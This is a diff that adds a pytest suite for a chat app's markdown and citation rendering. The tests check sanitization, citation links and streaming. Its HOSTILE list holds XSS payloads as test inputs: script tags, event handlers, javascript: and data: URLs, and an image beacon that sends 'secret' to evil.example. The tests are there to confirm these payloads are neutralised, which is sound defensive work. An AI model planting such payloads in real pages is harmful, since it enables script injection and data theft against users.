@@ -1,0 +1,181 @@
+import re
+from html.parser import HTMLParser
+
+import pytest
+
+from chat.rendering import Lines, StreamedMarkdown, answer_html, streamed_html
+from chat.turns import Cited
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "</textarea><svg onload=alert(1)>",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "[click](vbscript:x)",
+    "[click](//evil.example/)",
+    "[click](/admin/logout/)",
+    "![beacon](https://evil.example/?q=secret)",
+    '<https://evil.example/"onmouseover=alert(1)>',
+    '```"><script>alert(1)</script>\ncode\n```',
+    "| a |\n|---|\n| <b onclick=x>b</b> |",
+    "[1]: javascript:alert(1)\n\n[x][1]",
+    "<div hx-get=/admin/ hx-trigger=load>",
+    "&lt;script&gt;",
+]
+ALLOWED_TAGS = {
+    "p", "strong", "em", "code", "pre", "a", "ul", "ol", "li", "blockquote", "sup", "span", "div", "table", "thead",
+    "tbody", "tr", "th", "td", "h3", "h4", "h5", "h6", "hr", "br", "s",
+}  # fmt: skip
+ALLOWED_ATTRIBUTES = {
+    "href", "rel", "class", "tabindex", "role", "aria-label", "start", "title", "data-title", "data-where",
+    "data-quote", "data-support",
+}  # fmt: skip
+
+
+class Elements(HTMLParser):
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def cited(marker: int, **changes: object) -> Cited:
+    values: dict[str, object] = {
+        "marker": marker,
+        "href": f"/documents/{marker}/?start=0&end=9#passage",
+        "title": "Manual",
+        "section": "Safety",
+        "page": 3,
+        "quote": "Ten bar.",
+        "support": 0.91,
+    }
+    return Cited(**(values | changes))  # type: ignore[arg-type]
+
+
+def links(html: str) -> list[dict[str, str | None]]:
+    return [attributes for tag, attributes in Elements(html).found if tag == "a"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_answers_are_shown_and_never_run(text: str) -> None:
+    for html in (answer_html(text, [cited(1)]), streamed_html(text, "x", {1: "T"})):
+        for tag, attributes in Elements(html).found:
+            assert tag in ALLOWED_TAGS
+            assert set(attributes) <= ALLOWED_ATTRIBUTES
+            href = attributes.get("href")
+            assert href is None or re.match(r"https?://|mailto:|/documents/\d|#answer-", href), href
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_documents_cannot_break_out_of_a_citation(text: str) -> None:
+    html = answer_html("Yes [1].", [cited(1, title=text, section=text, quote=text)])
+    assert [tag for tag, _ in Elements(html).found] == ["p", "sup", "a"]
+    assert links(html)[0]["data-title"] == text
+
+
+def test_a_marker_links_to_its_passage_and_has_a_name() -> None:
+    html = answer_html("It may be run at 10 bar [2].", [cited(1), cited(2)])
+    (link,) = links(html)
+    assert link["href"] == "/documents/2/?start=0&end=9#passage"
+    assert link["aria-label"] == "Source 2: Manual, page 3"
+    assert link["data-quote"] == "Ten bar."
+    assert "10 bar<sup" in html
+
+
+def test_each_mention_leads_to_its_own_words() -> None:
+    first, second = cited(1, href="/documents/1/?start=0&end=5"), cited(1, href="/documents/1/?start=9&end=12")
+    html = answer_html("A [1]. B [1]. C [1].", [first, second])
+    assert [link["href"] for link in links(html)] == [first.href, second.href, second.href]
+
+
+def test_a_marker_without_a_citation_stays_text() -> None:
+    html = answer_html("See [7] and a[0].", [cited(1)])
+    assert links(html) == []
+    assert "[7]" in html
+
+
+def test_a_marker_is_never_anothers_link() -> None:
+    html = answer_html("[1](https://evil.example/) [see [1]](https://evil.example/)", [cited(1)])
+    assert [link["href"] for link in links(html)] == ["/documents/1/?start=0&end=9#passage"] * 2
+
+
+def test_code_keeps_its_brackets() -> None:
+    html = answer_html("`list[1]`\n\n```python\nrow[1]\n```", [cited(1)])
+    assert links(html) == []
+    assert "list[1]" in html
+    assert "row[1]" in html
+
+
+def test_the_words_of_a_deleted_document_can_still_be_read() -> None:
+    html = answer_html("Yes [1].", [cited(1, href="")])
+    assert links(html) == []
+    note = next(attributes for tag, attributes in Elements(html).found if tag == "span")
+    assert (note["data-quote"], note["tabindex"]) == ("Ten bar.", "0")
+
+
+def test_web_links_are_marked_as_the_models_own() -> None:
+    (link,) = links(answer_html("[there](https://example.org/)", []))
+    assert link["rel"] == "nofollow noopener noreferrer"
+
+
+def test_headings_rank_below_the_pages_own() -> None:
+    assert [tag for tag, _ in Elements(answer_html("# A\n\n#### B\n\n###### C", [])).found] == ["h3", "h6", "h6"]
+
+
+def test_a_streamed_marker_leads_to_the_source_beside_it() -> None:
+    html = streamed_html("10 bar [2][9].", "abc", {2: "Manual"})
+    assert [link["href"] for link in links(html)] == ["#answer-abc-source-2"]
+    assert "[9]" in html
+
+
+ANSWER = """Before **opening** it [1]:
+
+1. Switch it off [1].
+2. Close the valves.
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+```python
+# not a heading
+
+print(row[1])
+```
+
+Done <b>now</b> [2].
+"""
+
+
+@pytest.mark.parametrize("size", [1, 3, 7, 1000])
+def test_a_streamed_answer_ends_as_the_whole_one_would(size: int) -> None:
+    stream = StreamedMarkdown("abc", {1: "One", 2: "Two"})
+    finished = shown_open = tail = ""
+    for at in range(0, len(ANSWER), size):
+        shown = stream.feed(ANSWER[at : at + size])
+        if isinstance(shown, Lines):
+            finished, shown_open, tail = finished + shown.finished, shown.open, shown.tail
+        else:
+            tail += shown
+    words = Elements(answer_html(ANSWER, [cited(1), cited(2)])).text
+    assert Elements(finished + shown_open + tail).text.split() == words.split()
+    assert "<b>" not in finished + shown_open + tail
+
+
+def test_a_long_block_costs_no_more_than_its_length_times_a_constant() -> None:
+    text = "```\n" + "line of code\n" * 3000
+    stream = StreamedMarkdown("abc", {})
+    sent = 0
+    for line in text.splitlines(keepends=True):
+        shown = stream.feed(line)
+        sent += len(shown.finished + shown.open + shown.tail) if isinstance(shown, Lines) else len(shown)
+    assert sent < 40 * len(text)
